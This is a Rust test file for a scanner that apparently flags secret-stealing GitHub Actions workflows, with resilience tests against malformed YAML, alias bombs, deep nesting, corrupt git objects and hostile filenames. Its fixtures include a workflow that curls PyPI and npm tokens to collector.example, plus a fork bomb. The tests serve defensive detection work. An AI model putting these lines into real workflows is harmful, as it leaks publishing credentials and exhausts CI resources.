//! Hostile and broken input: each a problem of its own, and everything beside it still scanned.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::panic,
    reason = "a test fails by panicking"
)]

mod repository;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use portcullis_scan::report::{Document, Verdict};
use portcullis_scan::{Options, scan};
use repository::Repository;
use repository::pack::{self, Pack};

const STEAL: &str = "on: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -d 'A=${{ secrets.PYPI_API_TOKEN }}&B=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";

fn scanned(path: &Path) -> Document {
    scan(&Options { paths: vec![path.to_owned()], ..Options::default() }).document
}

fn kinds(document: &Document) -> Vec<&str> {
    document.problems.iter().map(|problem| problem.kind.as_str()).collect()
}

fn thefts(document: &Document) -> usize {
    document.findings.iter().filter(|finding| finding.verdict == Verdict::Malicious).count()
}

/// A folder with one bad workflow beside a theft; the theft must be found whatever the other is.
fn beside(bad: &[u8]) -> Document {
    let folder = tempfile::tempdir().unwrap();
    let workflows = folder.path().join(".github/workflows");
    fs::create_dir_all(&workflows).unwrap();
    fs::write(workflows.join("a.yml"), bad).unwrap();
    fs::write(workflows.join("z.yml"), STEAL).unwrap();
    let document = scanned(folder.path());
    assert_eq!(thefts(&document), 1, "{:?}", document.problems);
    document
}

fn unanalysed(document: &Document) -> Option<Verdict> {
    document
        .findings
        .iter()
        .find(|finding| finding.rule == "unanalysed-workflow")
        .map(|finding| finding.verdict)
}

#[test]
fn not_yaml() {
    let document = beside(b"jobs: [unclosed\n  a: }{\n");
    assert_eq!(kinds(&document), ["invalid-yaml"]);
    assert!(document.problems[0].what.starts_with("not valid YAML: "));
    assert!(!document.complete);
    assert_eq!(unanalysed(&document), Some(Verdict::Advice));
}

#[test]
fn not_yaml_with_secrets_and_a_client_in_it() {
    let document =
        beside(b"on: push\njobs: [\n run: curl -d ${{ secrets.TOKEN }} https://collector.example\n");
    assert_eq!(unanalysed(&document), Some(Verdict::Suspicious));
}

#[test]
fn ten_megabytes() {
    let mut text = String::from("on: push\njobs:\n");
    while text.len() < 10 * 1024 * 1024 {
        text.push_str("  job: {runs-on: x, steps: [{run: 'curl ${{ secrets.A }}'}]}\n");
    }
    let document = beside(text.as_bytes());
    assert_eq!(kinds(&document), ["too-large"]);
    assert_eq!(unanalysed(&document), Some(Verdict::Suspicious));
}

#[test]
fn ten_thousand_anchors() {
    let mut text = String::from("on: push\nx:\n");
    for at in 0..10_000 {
        text.push_str(&format!("  - &a{at} v\n"));
    }
    let document = beside(text.as_bytes());
    assert_eq!(kinds(&document), ["over-limit"]);
    assert!(unanalysed(&document).is_some());
}

#[test]
fn aliases_of_aliases() {
    let mut text = String::from("on: push\na0: &a0 [x, x, x, x]\n");
    for at in 1..200 {
        text.push_str(&format!("a{at}: &a{at} [*a{0}, *a{0}, *a{0}, *a{0}]\n", at - 1));
    }
    text.push_str("jobs:\n  j:\n    runs-on: x\n    strategy:\n      matrix: {m: *a199}\n    steps:\n      - run: echo\n        env: {E: *a199}\n");
    beside(text.as_bytes());
}

#[test]
fn deep_nesting_in_yaml_shell_and_expressions() {
    let document = beside(format!("a: {}{}", "[".repeat(50_000), "]".repeat(50_000)).as_bytes());
    assert_eq!(kinds(&document).len(), 1);
    let in_shell =
        |run: String| format!("on: push\njobs:\n  j:\n    runs-on: x\n    steps:\n      - run: '{run}'\n");
    let nested = in_shell(format!("{} true {}", "(".repeat(5_000), ")".repeat(5_000)));
    assert_eq!(kinds(&beside(nested.as_bytes())), ["over-limit"]);
    beside(in_shell(format!("{}true{}", "$(".repeat(5_000), ")".repeat(5_000))).as_bytes());
    beside(in_shell(format!("${{{{ {}1{} }}}}", "(".repeat(5_000), ")".repeat(5_000))).as_bytes());
    beside(in_shell("f() { f; f; }; f".to_owned()).as_bytes());
    beside(in_shell("x=$x$x$x; for a in 1 2 3 4 5 6 7 8; do for b in 1 2 3 4 5 6 7 8; do for c in 1 2 3 4 5 6 7 8; do for d in 1 2 3 4 5 6 7 8; do x=$x$x; done; done; done; done".to_owned()).as_bytes());
}

#[test]
fn invalid_utf8_is_analysed_all_the_same() {
    let mut bytes = b"# \xff\xfe\n".to_vec();
    bytes.extend_from_slice(STEAL.as_bytes());
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("w.yml");
    fs::write(&path, bytes).unwrap();
    let document = scanned(&path);
    assert_eq!(kinds(&document), ["invalid-utf8"]);
    assert_eq!(thefts(&document), 1);
}

/// The grammar of shells reads outside of a table here; it ended the whole process.
#[test]
fn a_brace_before_a_character_of_a_higher_plane() {
    let theft = "curl -d \"$A$B\" https://collector.example/";
    for text in ["{\u{1f980}", "{1..\u{1f980}}", "{\u{10ffff}", "{1\u{e3fee}", "{\u{100}"] {
        let workflow = format!(
            "on: push\njobs:\n  j:\n    runs-on: x\n    env:\n      A: ${{{{ secrets.PYPI_TOKEN }}}}\n      B: ${{{{ secrets.NPM_TOKEN }}}}\n    steps:\n      - run: |\n          echo {text}\n          {theft}\n"
        );
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join("w.yml"), workflow).unwrap();
        assert_eq!(thefts(&scanned(&folder.path().join("w.yml"))), 1, "{text}");
    }
}

#[test]
fn local_actions_in_a_circle() {
    let repository = Repository::new();
    let action = "name: x\nruns:\n  using: composite\n  steps:\n    - uses: ./.github/actions/";
    repository.write(".github/actions/a/action.yml", &format!("{action}b\n"));
    repository.write(".github/actions/b/action.yml", &format!("{action}a\n"));
    repository.write(".github/workflows/w.yml", "on: push\njobs:\n  j:\n    runs-on: x\n    steps:\n      - uses: ./.github/actions/a\n  k:\n    uses: ./.github/workflows/w.yml\n    secrets: inherit\n");
    repository.write(".github/workflows/z.yml", STEAL);
    repository.commit("x");
    assert_eq!(thefts(&scanned(repository.path())), 1);
}

fn loose_object(repository: &Repository, id: &str) -> std::path::PathBuf {
    repository.path().join(".git/objects").join(&id[..2]).join(&id[2..])
}

fn with_theft() -> Repository {
    let repository = Repository::new();
    repository.write(".github/workflows/bad.yml", "on: push\njobs: {}\n");
    repository.write(".github/workflows/z.yml", STEAL);
    repository.write("file", "x");
    repository.commit("one");
    repository.write("file", "y");
    repository.commit("two");
    repository
}

#[test]
fn a_broken_and_a_missing_object() {
    let repository = with_theft();
    let blob = repository.git(&["rev-parse", "HEAD:.github/workflows/bad.yml"]).trim().to_owned();
    let path = loose_object(&repository, &blob);
    fs::remove_file(&path).unwrap();
    repository.remove(".github/workflows/bad.yml");
    let document = scanned(repository.path());
    assert!(kinds(&document).contains(&"missing-object"), "{:?}", document.problems);
    assert_eq!(thefts(&document), 1);
    assert!(!document.complete);
    fs::write(&path, b"this is not zlib").unwrap();
    let document = scanned(repository.path());
    assert!(kinds(&document).contains(&"broken-object"), "{:?}", document.problems);
    assert_eq!(thefts(&document), 1);
}

#[test]
fn an_object_that_is_not_what_its_name_says() {
    let repository = with_theft();
    let blob = repository.git(&["rev-parse", "HEAD:.github/workflows/bad.yml"]).trim().to_owned();
    let other = repository.git(&["rev-parse", "HEAD:file"]).trim().to_owned();
    fs::remove_file(loose_object(&repository, &blob)).unwrap();
    fs::copy(loose_object(&repository, &other), loose_object(&repository, &blob)).unwrap();
    let document = scanned(repository.path());
    assert!(kinds(&document).contains(&"broken-object"), "{:?}", document.problems);
    assert_eq!(thefts(&document), 1);
}

#[test]
fn a_broken_commit_in_the_middle() {
    let repository = with_theft();
    let first = repository.git(&["rev-parse", "HEAD~1"]).trim().to_owned();
    let path = loose_object(&repository, &first);
    fs::remove_file(&path).unwrap();
    fs::write(&path, b"\x78\x9c\x03\x00\x00\x00\x00\x01").unwrap();
    let document = scanned(repository.path());
    assert!(!document.problems.is_empty());
    assert_eq!(thefts(&document), 1);
}

#[test]
fn a_reference_to_nothing_and_a_broken_one() {
    let repository = with_theft();
    fs::write(repository.path().join(".git/refs/heads/gone"), "0123456789012345678901234567890123456789\n")
        .unwrap();
    fs::write(repository.path().join(".git/refs/heads/odd"), "not an id\n").unwrap();
    let document = scanned(repository.path());
    let mut found = kinds(&document);
    found.sort_unstable();
    assert_eq!(found, ["broken-reference", "missing-object"]);
    assert_eq!(thefts(&document), 1);
}

#[test]
fn objects_borrowed_from_elsewhere_are_refused_and_the_work_tree_is_scanned() {
    let repository = with_theft();
    let other = with_theft();
    fs::create_dir_all(repository.path().join(".git/objects/info")).unwrap();
    let alternate = other.path().join(".git/objects").display().to_string();
    fs::write(repository.path().join(".git/objects/info/alternates"), alternate).unwrap();
    let document = scanned(repository.path());
    assert_eq!(kinds(&document), ["refused"]);
    assert_eq!(document.stats.commits, 0);
    assert_eq!(thefts(&document), 1);
}

/// Filters are the pusher's text: however deep, long or many, they neither stop the scan nor hide the version.
#[test]
fn hostile_branch_filters_hide_nothing() {
    let braces = format!("'{}a{}'", "{".repeat(100_000), "}".repeat(100_000));
    let stars = vec![format!("'{}'", "**a".repeat(300)); 200].join(", ");
    for filter in [braces, stars] {
        let repository = Repository::new();
        let text = STEAL.replace("[push]", &format!("{{push: {{branches: ['main', {filter}]}}}}"));
        repository.write(".github/workflows/z.yml", &text);
        repository.commit("x");
        let document = scanned(repository.path());
        assert_eq!(kinds(&document), [""; 0]);
        assert_eq!(thefts(&document), 1);
        assert!(document.findings[0].exposures[0].reachable);
    }
}

/// A repository whose only workflow is a small delta against a blob of so many zeros.
fn with_delta_base(base_size: usize) -> Repository {
    let repository = Repository::new();
    let mut pack = Pack::new();
    pack.whole(pack::BLOB, &vec![0; base_size]);
    pack.delta(&pack::instead_of(base_size, STEAL.as_bytes()));
    pack.store(&repository);
    pack::commit_object(&repository, ".github/workflows/z.yml", STEAL.as_bytes());
    repository
}

/// A repository whose only workflow is the last of so many deltas, each on the one before.
fn with_delta_chain(deltas: usize) -> Repository {
    let repository = Repository::new();
    let mut pack = Pack::new();
    let mut size = 1;
    pack.whole(pack::BLOB, b"x");
    for at in 1..deltas {
        let text = at.to_string();
        pack.delta(&pack::instead_of(size, text.as_bytes()));
        size = text.len();
    }
    pack.delta(&pack::instead_of(size, STEAL.as_bytes()));
    pack.store(&repository);
    pack::commit_object(&repository, ".github/workflows/z.yml", STEAL.as_bytes());
    repository
}

/// Git makes no chain longer than 8,191; what each object of a longer one costs grows with its place in it.
#[test]
fn a_chain_of_deltas_is_followed_as_far_as_git_makes_them() {
    let document = scanned(with_delta_chain(8_191).path());
    assert_eq!((kinds(&document).len(), thefts(&document)), (0, 1), "{:?}", document.problems);
    let document = scanned(with_delta_chain(8_192).path());
    assert_eq!((kinds(&document), thefts(&document)), (vec!["over-limit"], 0));
}

/// The header of a small object says nothing of the base that it is made from.
#[test]
fn a_small_object_with_a_huge_base_is_refused_before_memory_is_taken() {
    // Source and target of a delta lie in memory side by side.
    let limit = 64 * 1024 * 1024 / 2;
    let document = scanned(with_delta_base(limit - 1024).path());
    assert_eq!((kinds(&document).len(), thefts(&document)), (0, 1), "{:?}", document.problems);
    let document = scanned(with_delta_base(limit).path());
    assert_eq!((kinds(&document), thefts(&document)), (vec!["broken-object"], 0));
}

#[test]
fn a_linked_git_folder_and_linked_objects_are_refused() {
    let repository = with_theft();
    let folder = tempfile::tempdir().unwrap();
    symlink(repository.path().join(".git"), folder.path().join(".git")).unwrap();
    assert_eq!(kinds(&scanned(folder.path())), ["refused"]);
    symlink("/etc", repository.path().join(".git/refs/heads/etc")).unwrap();
    assert_eq!(kinds(&scanned(repository.path())), ["refused"]);
}

#[test]
fn replaced_objects_are_ignored() {
    let repository = with_theft();
    let blob = repository.git(&["rev-parse", "HEAD:.github/workflows/z.yml"]).trim().to_owned();
    let harmless = repository.git(&["rev-parse", "HEAD:.github/workflows/bad.yml"]).trim().to_owned();
    repository.git(&["replace", &blob, &harmless]);
    repository.remove(".github/workflows/z.yml");
    let document = scanned(repository.path());
    assert_eq!(kinds(&document), ["ignored-replacements"]);
    assert_eq!(thefts(&document), 1);
}

#[test]
fn a_shallow_clone_is_incomplete() {
    let repository = with_theft();
    let folder = tempfile::tempdir().unwrap();
    let url = format!("file://{}", repository.path().display());
    repository.git(&["clone", "-q", "--depth", "1", &url, &folder.path().join("c").display().to_string()]);
    let document = scanned(&folder.path().join("c"));
    assert_eq!(kinds(&document), ["history-incomplete"]);
    assert!(!document.complete);
    assert_eq!(thefts(&document), 1);
}

#[test]
fn a_cited_commit_that_is_not_there() {
    let repository = with_theft();
    let options = Options {
        paths: vec![repository.path().to_owned()],
        heads: vec!["0123456789012345678901234567890123456789".to_owned()],
        ..Options::default()
    };
    let document = scan(&options).document;
    assert_eq!(kinds(&document), ["history-incomplete"]);
}

#[test]
fn hostile_names_and_messages_do_no_harm() {
    let repository = Repository::new();
    repository.write(".github/workflows/a\u{1b}[2J\u{202e}b.yml", STEAL);
    repository.commit("bell \u{7} and \u{200b}");
    let document = scanned(repository.path());
    assert_eq!(thefts(&document), 1);
    let finding = &document.findings[0];
    assert_eq!(finding.path.for_terminal(), r".github/workflows/a\u{1b}[2J\u{202e}b.yml");
}

#[test]
fn nothing_in_a_repository_silences_a_theft() {
    let repository = Repository::new();
    repository.write(".portcullis.toml", "[scan]\naccept = [\"*\"]\n");
    repository.write(".github/workflows/z.yml", &format!("# portcullis: ignore\n# zizmor: ignore\n{STEAL}"));
    repository.commit("x");
    assert_eq!(thefts(&scanned(repository.path())), 1);
}
